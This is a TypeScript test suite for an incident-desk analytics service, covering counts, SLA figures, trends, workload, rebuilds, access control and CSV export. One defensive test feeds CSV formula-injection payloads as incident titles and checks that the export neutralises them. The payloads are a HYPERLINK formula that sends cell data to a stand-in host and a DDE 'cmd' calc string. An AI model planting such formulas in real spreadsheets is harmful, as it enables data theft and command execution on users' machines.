import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { randomUUID } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import type { AnalyticsSummary, AnalyticsTrends, AnalyticsWorkload, EventEnvelope } from '@desk/contracts';
import { InProcessEventBus } from '@desk/messaging';
import { catalogTypesConsumedBy, waitFor } from '@desk/testing';
import { upsertFacts } from './facts/facts.repository.js';
import { snapshot, startAnalytics, type AnalyticsHarness, type TestUser } from './test-support/harness.js';
import { at, buildScenario, type Scenario } from './test-support/scenario.js';

type Get = ReturnType<AnalyticsHarness['http']['get']>;
const as = (token: string) => (request: Get) => request.set('Authorization', `Bearer ${token}`);

/** The figures without what depends on the moment they were asked for. */
function stable(body: AnalyticsSummary | AnalyticsTrends | AnalyticsWorkload): unknown {
  return JSON.parse(JSON.stringify(body, (key, value: unknown) => (key === 'generatedAt' || key === 'oldestAgeSeconds' ? undefined : value)));
}

function shuffled<T>(items: T[]): T[] {
  const copy = [...items];
  for (let i = copy.length - 1; i > 0; i--) {
    const j = Math.floor(Math.random() * (i + 1));
    [copy[i], copy[j]] = [copy[j]!, copy[i]!];
  }
  return copy;
}

interface Desk {
  h: AnalyticsHarness;
  scenario: Scenario;
  manager: TestUser;
  staff: TestUser;
  reporter: TestUser;
}

async function desk(deliver: (h: AnalyticsHarness, events: EventEnvelope[]) => Promise<void>): Promise<Desk> {
  const h = await startAnalytics();
  const departmentA = await h.createDepartment('Facilities');
  const departmentB = await h.createDepartment('IT');
  const manager = await h.createUser('manager', departmentA);
  const staff = await h.createUser('staff', departmentA, { fullName: 'Sam Staff' });
  const reporter = await h.createUser('reporter');
  const scenario = buildScenario(h, { departmentA, departmentB, staff: staff.user.id, reporter: reporter.user.id });
  await deliver(h, scenario.events);
  await h.handled(...scenario.events);
  return { h, scenario, manager, staff, reporter };
}

const figures = async (d: Desk, path: string, token = d.h.admin.token) => (await as(token)(d.h.http.get(path)).expect(200)).body as Record<string, unknown>;

describe('analytics figures', () => {
  let d: Desk;
  before(async () => {
    d = await desk((h, events) => h.publish(...events));
  });
  after(() => d.h.close());

  test('when a scripted sequence of events with known times is replayed, then the summary has exactly the expected counts, MTTA, MTTR, compliance and reopen rate', async () => {
    const summary = (await figures(d, '/analytics/summary')) as unknown as AnalyticsSummary;
    assert.equal(summary.total, 7);
    assert.deepEqual(summary.byStatus, { OPEN: 2, IN_PROGRESS: 1, RESOLVED: 2, CLOSED: 1, CANCELLED: 1 });
    assert.deepEqual(summary.byPriority, { LOW: 2, MEDIUM: 2, HIGH: 2, CRITICAL: 1 });
    assert.equal(summary.openBacklog, 3);
    // Acknowledged after 30 min, 1 h 30, 10 min and 5 min.
    assert.deepEqual(summary.mtta, { count: 4, meanSeconds: 2025, medianSeconds: 1200, p90Seconds: 4320 });
    // Resolved after 2 h, 10 h and 5 h (i3's last resolution, after its re-opening).
    assert.deepEqual(summary.mttr, { count: 3, meanSeconds: 20400, medianSeconds: 18000, p90Seconds: 32400 });
    // Response: met by i1, i3, i6; missed by i2, i4 (recorded) and i7 (past due, unrecorded); i5 not due yet.
    assert.deepEqual(summary.sla.response, { met: 3, breached: 3, pending: 1, compliance: 0.5 });
    // Resolution: met by i1, i3; missed by i2 and i7; i5 and i6 not due yet; i4 was cancelled in time.
    assert.deepEqual(summary.sla.resolution, { met: 2, breached: 2, pending: 2, compliance: 0.5 });
    assert.deepEqual(summary.reopen, { resolved: 3, reopened: 1, rate: 1 / 3 });
    assert.deepEqual(summary.filters, { from: null, to: null, departmentId: null, categoryId: null, priority: null });
  });

  test('when the summary is filtered by department, category, priority or created window, then only those incidents count', async () => {
    const { departmentB, categories } = d.scenario;
    const onlyB = (await figures(d, `/analytics/summary?departmentId=${departmentB}`)) as unknown as AnalyticsSummary;
    assert.equal(onlyB.total, 1);
    assert.equal(onlyB.byStatus.OPEN, 1);
    assert.deepEqual(onlyB.mtta, { count: 0, meanSeconds: null, medianSeconds: null, p90Seconds: null });
    assert.equal(onlyB.sla.response.compliance, null);

    assert.equal(((await figures(d, '/analytics/summary?priority=HIGH,CRITICAL')) as unknown as AnalyticsSummary).total, 3);
    const category2 = (await figures(d, `/analytics/summary?categoryId=${categories.c2}`)) as unknown as AnalyticsSummary;
    assert.equal(category2.total, 2);
    assert.deepEqual(category2.mtta, { count: 2, meanSeconds: 450, medianSeconds: 450, p90Seconds: 570 });

    // Through 4 March: days 1 and 2 (i2, i3, i7).
    const window = (await figures(d, '/analytics/summary?from=2026-03-03&to=2026-03-04')) as unknown as AnalyticsSummary;
    assert.equal(window.total, 3);
    assert.equal(window.filters.from, '2026-03-03T00:00:00.000Z');
    assert.equal(window.filters.to, '2026-03-05T00:00:00.000Z');
    const instant = (await figures(d, `/analytics/summary?from=${encodeURIComponent(at(1, 0, 30))}&to=${encodeURIComponent(at(1, 1, 0))}`)) as unknown as AnalyticsSummary;
    assert.equal(instant.total, 0, 'to is exclusive: i3 was created at exactly 01:00');
    assert.equal(((await figures(d, `/analytics/summary?categoryId=${randomUUID()}`)) as unknown as AnalyticsSummary).total, 0);
  });

  test('when trends are asked per day and per week, then created and resolved are counted per interval with the gaps filled with 0', async () => {
    const daily = (await figures(d, '/analytics/trends?interval=day&from=2026-03-02&to=2026-03-11')) as unknown as AnalyticsTrends;
    assert.deepEqual(
      daily.points.map((point) => [point.start, point.created, point.resolved]),
      [
        ['2026-03-02', 1, 1],
        ['2026-03-03', 2, 2],
        ['2026-03-04', 1, 0],
        ['2026-03-05', 1, 0],
        ['2026-03-06', 0, 0],
        ['2026-03-07', 0, 0],
        ['2026-03-08', 0, 0],
        ['2026-03-09', 0, 0],
        ['2026-03-10', 1, 0],
        ['2026-03-11', 1, 0],
      ],
    );
    const weekly = (await figures(d, '/analytics/trends?interval=week&from=2026-03-04&to=2026-03-15')) as unknown as AnalyticsTrends;
    // The window starts on a Wednesday: the first week still starts on Monday, but counts from Wednesday on.
    assert.deepEqual(
      weekly.points.map((point) => [point.start, point.created, point.resolved]),
      [
        ['2026-03-02', 2, 0],
        ['2026-03-09', 2, 0],
      ],
    );
    const fullWeeks = (await figures(d, '/analytics/trends?interval=week&from=2026-03-02&to=2026-03-15')) as unknown as AnalyticsTrends;
    assert.deepEqual(
      fullWeeks.points.map((point) => [point.start, point.created, point.resolved]),
      [
        ['2026-03-02', 5, 3],
        ['2026-03-09', 2, 0],
      ],
    );
    const recent = (await figures(d, '/analytics/trends')) as unknown as AnalyticsTrends;
    assert.equal(recent.points.length, 30, 'without a window: the last 30 days');
    assert.equal(recent.points.at(-1)!.start, new Date().toISOString().slice(0, 10));
  });

  test('when workload is asked, then open incidents are counted per department and per assignee with the oldest one and the breached ones', async () => {
    const { departmentA, departmentB, staff } = d.scenario;
    const workload = (await figures(d, '/analytics/workload')) as unknown as AnalyticsWorkload;
    assert.deepEqual(
      workload.departments.map(({ departmentId, name, open, breached, oldestCreatedAt }) => ({ departmentId, name, open, breached, oldestCreatedAt })),
      [
        { departmentId: departmentA, name: 'Facilities', open: 2, breached: 1, oldestCreatedAt: at(2) },
        { departmentId: departmentB, name: 'IT', open: 1, breached: 0, oldestCreatedAt: at(8) },
      ],
    );
    assert.deepEqual(
      workload.assignees.map(({ assigneeId, name, departmentId, open, breached, oldestCreatedAt }) => ({ assigneeId, name, departmentId, open, breached, oldestCreatedAt })),
      [
        { assigneeId: null, name: null, departmentId: departmentA, open: 1, breached: 1, oldestCreatedAt: at(2) },
        { assigneeId: null, name: null, departmentId: departmentB, open: 1, breached: 0, oldestCreatedAt: at(8) },
        { assigneeId: staff, name: 'Sam Staff', departmentId: departmentA, open: 1, breached: 0, oldestCreatedAt: at(9) },
      ],
    );
    const age = workload.departments[0]!.oldestAgeSeconds!;
    assert.ok(Math.abs(age - (Date.now() - Date.parse(at(2))) / 1000) < 60, 'the age is counted to now');
  });

  test('when the same events arrive twice each and in shuffled order, then every figure is the same', async () => {
    const shuffledDesk = await desk(async (h, events) => {
      // The same events (same ids) twice, in random order: late ones must not roll facts back.
      const twice = shuffled([...events, ...events]);
      await h.publish(...twice);
    });
    try {
      const mapIds = (path: string, from: Scenario, to: Scenario) =>
        path.replace(from.departmentA, to.departmentA).replace(from.departmentB, to.departmentB).replace(from.categories.c2, to.categories.c2);
      for (const path of [
        '/analytics/summary',
        `/analytics/summary?departmentId=${d.scenario.departmentB}`,
        `/analytics/summary?categoryId=${d.scenario.categories.c2}&priority=LOW,MEDIUM`,
        '/analytics/trends?from=2026-03-01&to=2026-03-20',
        '/analytics/trends?interval=week&from=2026-03-01&to=2026-03-20',
        '/analytics/workload',
      ]) {
        const original = stable((await figures(d, path)) as unknown as AnalyticsSummary);
        const replayed = stable((await figures(shuffledDesk, mapIds(path, d.scenario, shuffledDesk.scenario))) as unknown as AnalyticsSummary);
        // Same figures; ids differ between the two desks, so compare with them swapped in.
        const swapped = JSON.parse(
          JSON.stringify(replayed)
            .replaceAll(shuffledDesk.scenario.departmentA, d.scenario.departmentA)
            .replaceAll(shuffledDesk.scenario.departmentB, d.scenario.departmentB)
            .replaceAll(shuffledDesk.scenario.categories.c2, d.scenario.categories.c2)
            .replaceAll(shuffledDesk.scenario.staff, d.scenario.staff)
            .replaceAll(shuffledDesk.staff.user.fullName, d.staff.user.fullName),
        ) as unknown;
        assert.deepEqual(swapped, original, path);
      }
      const duplicates = (await shuffledDesk.h.service.db('inbox').count({ count: '*' }).whereIn('event_id', shuffledDesk.scenario.events.map((event) => event.id))) as { count: string }[];
      assert.equal(Number(duplicates[0]!.count), shuffledDesk.scenario.events.length, 'each event recorded once');
    } finally {
      await shuffledDesk.h.close();
    }
  });

  test('when an event older than the fact arrives, then the fact keeps the newer state', async () => {
    const { h, scenario } = d;
    const i1 = h.listed.get(scenario.incidents.i1)!;
    const stale = h.event('incident.status_changed', { incident: { ...i1, status: 'IN_PROGRESS', version: 2, closedAt: null, resolvedAt: null }, actorId: null, from: 'OPEN', to: 'IN_PROGRESS', reason: null });
    h.listed.set(i1.id, i1); // incident-service still holds the newest
    await h.publish(stale);
    await h.handled(stale);
    const fact = (await h.service.db('facts').where({ id: i1.id }).first()) as { status: string; version: number };
    assert.deepEqual({ status: fact.status, version: fact.version }, { status: 'CLOSED', version: 4 });
  });

  test('when the model is rebuilt from incident-service\'s listing, then every figure afterwards equals the figures before', async () => {
    const { h } = d;
    const paths = ['/analytics/summary', '/analytics/trends?from=2026-03-01&to=2026-03-20', '/analytics/workload', `/analytics/summary?departmentId=${d.scenario.departmentA}`];
    const before = await Promise.all(paths.map(async (path) => stable((await figures(d, path)) as unknown as AnalyticsSummary)));
    const generation = ((await h.service.db('model_state').first()) as { generation: number }).generation;

    const rebuilt = await as(h.admin.token)(h.http.post('/analytics/rebuild')).expect(200);
    assert.equal(rebuilt.body.incidents, 7);
    assert.equal(((await h.service.db('model_state').first()) as { generation: number }).generation, generation + 1);
    const afterwards = await Promise.all(paths.map(async (path) => stable((await figures(d, path)) as unknown as AnalyticsSummary)));
    assert.deepEqual(afterwards, before);
    assert.equal(await h.service.db.schema.hasTable('facts_next'), false, 'nothing left behind');

    // Events keep landing in the new model.
    const late = snapshot({ departmentId: d.scenario.departmentA, categoryId: d.scenario.categories.c1, reporterId: d.reporter.user.id, createdAt: at(4) });
    const event = h.event('incident.created', { incident: late, actorId: null });
    await h.publish(event);
    await h.handled(event);
    assert.equal(((await figures(d, '/analytics/summary')) as unknown as AnalyticsSummary).total, 8);
  });

  test('when a rebuild is already running or the caller is not an admin, then it is refused and the model is untouched', async () => {
    const { h } = d;
    await as(d.manager.token)(h.http.post('/analytics/rebuild')).expect(403);
    await h.service.db.raw('create table facts_next (like facts including all)');
    try {
      const refused = await as(h.admin.token)(h.http.post('/analytics/rebuild')).expect(409);
      assert.equal(refused.body.code, 'ANALYTICS.REBUILD_RUNNING');
      assert.match(refused.body.detail, /--force/);
    } finally {
      await h.service.db.schema.dropTableIfExists('facts_next');
    }
  });

  test('when several rebuilds are asked for at once, then each either rebuilds or is told one is running, never a 500', async () => {
    const { h } = d;
    for (let round = 0; round < 3; round++) {
      const answers = await Promise.all(Array.from({ length: 4 }, () => as(h.admin.token)(h.http.post('/analytics/rebuild'))));
      const statuses = answers.map((answer) => answer.status);
      assert.ok(statuses.every((status) => status === 200 || status === 409), `statuses ${statuses.join(', ')}`);
      assert.ok(statuses.includes(200), 'one of them rebuilds');
    }
  });
});

describe('the in-memory model', () => {
  let h: AnalyticsHarness;
  before(async () => {
    h = await startAnalytics();
  });
  after(() => h.close());

  test('when another replica writes facts, even in a transaction that commits after later ones, then the next query counts every one', async () => {
    const department = randomUUID();
    const fact = () => snapshot({ departmentId: department, categoryId: randomUUID(), reporterId: randomUUID(), createdAt: at(1) });
    const total = async () => ((await figures({ h } as Desk, `/analytics/summary?departmentId=${department}`)) as unknown as AnalyticsSummary).total;
    assert.equal(await total(), 0);

    // A slow writer takes its transaction id first and commits last.
    const slow = await h.service.db.transaction();
    await upsertFacts(slow, [fact()]);
    await upsertFacts(h.service.db, [fact(), fact()]);
    assert.equal(await total(), 2);
    await slow.commit();
    assert.equal(await total(), 3, 'the late commit was not skipped');
  });

  test('when a transaction stays open meanwhile (a backup, a bulk load elsewhere on the server), then each look reads only what committed since the last', async () => {
    const department = randomUUID();
    const fact = () => snapshot({ departmentId: department, categoryId: randomUUID(), reporterId: randomUUID(), createdAt: at(1) });
    const { store } = h.service;
    // It holds back the server's oldest running transaction id for as long as it is open.
    const open = await h.service.db.transaction();
    try {
      await open.raw('select pg_current_xact_id()');
      await upsertFacts(h.service.db, [fact(), fact()]);
      await store.sync();
      const revision = store.revision;
      await store.sync();
      await store.sync();
      assert.equal(store.revision, revision, 'facts read once are not read again while the transaction stays open');
      await upsertFacts(h.service.db, [fact()]);
      await store.sync();
      assert.equal(store.revision, revision + 1);
      const total = ((await figures({ h } as Desk, `/analytics/summary?departmentId=${department}`)) as unknown as AnalyticsSummary).total;
      assert.equal(total, 3);
    } finally {
      await open.rollback();
    }
  });
});

describe('analytics access and input', () => {
  let d: Desk;
  before(async () => {
    d = await desk((h, events) => h.publish(...events));
  });
  after(() => d.h.close());

  const endpoints = ['/analytics/summary', '/analytics/trends', '/analytics/workload', '/analytics/satisfaction', '/analytics/export.csv'];

  test('the event types it subscribes to are those the event catalogue lists it as consuming', () => {
    assert.ok(d.h.bus instanceof InProcessEventBus);
    assert.deepEqual(d.h.bus.boundTypes('analytics-service'), catalogTypesConsumedBy('analytics-service'));
  });

  test('when a manager asks, then they get their own department\'s figures, and another department is refused with 403', async () => {
    const { h, manager, scenario } = d;
    const own = (await figures(d, '/analytics/summary', manager.token)) as unknown as AnalyticsSummary;
    assert.equal(own.total, 6);
    assert.equal(own.filters.departmentId, scenario.departmentA);
    assert.equal(((await figures(d, `/analytics/summary?departmentId=${scenario.departmentA}`, manager.token)) as unknown as AnalyticsSummary).total, 6);
    for (const path of endpoints) {
      const refused = await as(manager.token)(h.http.get(`${path}?departmentId=${scenario.departmentB}`)).expect(403);
      assert.equal(refused.body.code, 'ANALYTICS.FORBIDDEN', path);
    }
    const workload = (await figures(d, '/analytics/workload', manager.token)) as unknown as AnalyticsWorkload;
    assert.deepEqual(workload.departments.map((line) => line.departmentId), [scenario.departmentA]);
    const csv = await as(manager.token)(h.http.get('/analytics/export.csv')).expect(200);
    assert.equal(csv.text.trim().split('\r\n').length, 1 + 6, 'the header and department A\'s six incidents');
  });

  test('when staff, reporters, managers without a department or service accounts without the scope ask, then 403; without a token 401', async () => {
    const { h, staff, reporter } = d;
    const lostManager = await h.createUser('manager', null);
    const robot = await h.tokenFor({ id: randomUUID(), role: 'service', scopes: ['incidents:read'] });
    for (const path of endpoints) {
      for (const token of [staff.token, reporter.token, lostManager.token, robot]) {
        const refused = await as(token)(h.http.get(path)).expect(403);
        assert.match(refused.headers['content-type'] ?? '', /application\/problem\+json/);
      }
      await h.http.get(path).expect(401);
    }
    const reader = await h.tokenFor({ id: randomUUID(), role: 'service', scopes: ['analytics:read'] });
    assert.equal(((await figures(d, '/analytics/summary', reader)) as unknown as AnalyticsSummary).total, 7);
  });

  test('when a manager\'s account is deactivated or moved, then their token stops working', async () => {
    const { h } = d;
    const manager = await h.createUser('manager', d.scenario.departmentA);
    await as(manager.token)(h.http.get('/analytics/summary')).expect(200);
    await h.changeUser(manager.user, { departmentId: d.scenario.departmentB });
    // The service drops a cached account once it sees the replica change it (about a second).
    const refused = await waitFor('the old token to be refused', async () => {
      const response = await as(manager.token)(h.http.get('/analytics/summary'));
      return response.status === 401 ? response : undefined;
    }, { timeoutMs: 5_000, intervalMs: 200 });
    assert.equal(refused.body.code, 'AUTH.TOKEN_REVOKED');
  });

  test('when a filter is malformed, then 400 problem+json names the field', async () => {
    const { h } = d;
    const cases: [string, string][] = [
      ['/analytics/summary?from=yesterday', 'from'],
      ['/analytics/summary?to=2026-02-30', 'to'],
      ['/analytics/summary?from=2026-03-05&to=2026-03-01', 'to'],
      ['/analytics/summary?priority=URGENT', 'priority'],
      ['/analytics/workload?departmentId=facilities', 'departmentId'],
      ['/analytics/export.csv?categoryId=12', 'categoryId'],
      ['/analytics/trends?interval=month', 'interval'],
      ['/analytics/trends?interval=day&from=2020-01-01&to=2026-01-01', 'from'],
    ];
    // a parameter the route does not know is ignored (caches and cache-busters add their own)
    await as(h.admin.token)(h.http.get('/analytics/summary?colour=blue&_=1733270400')).expect(200);
    for (const [path, field] of cases) {
      const response = await as(h.admin.token)(h.http.get(path)).expect(400);
      assert.match(response.headers['content-type'] ?? '', /application\/problem\+json/);
      const fields = (response.body.errors as { path: string }[]).map((issue) => issue.path);
      assert.ok(fields.some((issue) => issue === `/${field}` || issue.startsWith(`/${field}/`)), `${path}: ${JSON.stringify(response.body.errors)}`);
    }
  });
});

describe('analytics export', () => {
  let h: AnalyticsHarness;
  let department: string;
  before(async () => {
    h = await startAnalytics();
    department = await h.createDepartment('Facilities, "East" wing');
  });
  after(() => h.close());

  test('when a title holds commas, quotes and line breaks, then the CSV quotes it as RFC 4180 says', async () => {
    const reporter = await h.createUser('reporter');
    const incident = snapshot({
      departmentId: department,
      categoryId: randomUUID(),
      reporterId: reporter.user.id,
      createdAt: at(0),
      title: 'Printer "Lab, 3rd floor"\nbroken',
      respondedAt: at(0, 0, 30),
      status: 'IN_PROGRESS',
      version: 2,
    });
    const event = h.event('incident.status_changed', { incident, actorId: null, from: 'OPEN', to: 'IN_PROGRESS', reason: null });
    await h.publish(event);
    await h.handled(event);

    const response = await as(h.admin.token)(h.http.get(`/analytics/export.csv?departmentId=${department}`)).expect(200);
    assert.match(response.headers['content-type'] ?? '', /^text\/csv; charset=utf-8/);
    assert.match(response.headers['content-disposition'] ?? '', /^attachment; filename="incidents-\d{4}-\d{2}-\d{2}\.csv"$/);
    const [header, ...rest] = response.text.split('\r\n');
    assert.equal(
      header,
      'key,id,title,status,priority,department_id,department,category_id,assignee_id,assignee,reporter_id,created_at,responded_at,resolved_at,closed_at,cancelled_at,reopen_count,reopened_at,response_due_at,resolution_due_at,response_breached_at,resolution_breached_at,seconds_to_acknowledge,seconds_to_resolve,satisfaction_rating,satisfaction_rated_at',
    );
    assert.equal(
      rest.join('\r\n'),
      `${incident.key},${incident.id},"Printer ""Lab, 3rd floor""\nbroken",IN_PROGRESS,MEDIUM,${department},"Facilities, ""East"" wing",${incident.categoryId},,,` +
        `${reporter.user.id},2026-03-02T00:00:00.000Z,2026-03-02T00:30:00.000Z,,,,0,,,,,,1800,,,\r\n`,
    );
  });

  test('when text cells start like formulas (=, +, -, @, tab, carriage return), then the CSV keeps them as text (a leading quote), and numbers stay numbers', async () => {
    const reporter = await h.createUser('reporter');
    const titles = ['=HYPERLINK("http://x.example/?"&A2,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\tTabbed', '\rReturned', 'Plain title'];
    const category = randomUUID();
    for (const [index, title] of titles.entries()) {
      const incident = snapshot({ departmentId: department, categoryId: category, reporterId: reporter.user.id, createdAt: at(index + 1), title, respondedAt: at(index + 1, 0, 30), status: 'IN_PROGRESS', version: 2 });
      const event = h.event('incident.status_changed', { incident, actorId: null, from: 'OPEN', to: 'IN_PROGRESS', reason: null });
      await h.publish(event);
      await h.handled(event);
    }
    const response = await as(h.admin.token)(h.http.get(`/analytics/export.csv?categoryId=${category}`)).expect(200);
    const rows = parse<Record<string, string>>(response.text, { columns: true });
    assert.deepEqual(
      rows.map((row) => row.title),
      ['\'=HYPERLINK("http://x.example/?"&A2,"open")', '\'+1+cmd|\' /C calc\'!A0', '\'-2+3', '\'@SUM(1,2)', '\'\tTabbed', '\'\rReturned', 'Plain title'],
    );
    assert.ok(rows.every((row) => row.seconds_to_acknowledge === '1800'), 'numbers are not text cells');
  });

  test('when more facts match than one page holds, then the export streams every one exactly once, oldest first', async () => {
    const category = randomUUID();
    // A department without a name in the replica: no field needs quoting, so lines split on commas.
    const many = Array.from({ length: 12_345 }, (_, index) =>
      snapshot({ departmentId: randomUUID(), categoryId: category, reporterId: randomUUID(), createdAt: new Date(Date.parse(at(20)) + Math.floor(index / 3) * 1000).toISOString() }),
    );
    for (let i = 0; i < many.length; i += 2000) await upsertFacts(h.service.db, many.slice(i, i + 2000));
    const response = await as(h.admin.token)(h.http.get(`/analytics/export.csv?categoryId=${category}`)).expect(200);
    const lines = response.text.trim().split('\r\n').slice(1);
    assert.equal(lines.length, many.length);
    const ids = lines.map((line) => line.split(',')[1]);
    assert.equal(new Set(ids).size, many.length);
    const created = lines.map((line) => line.split(',')[11]!);
    assert.deepEqual(created, [...created].sort());
  });
});
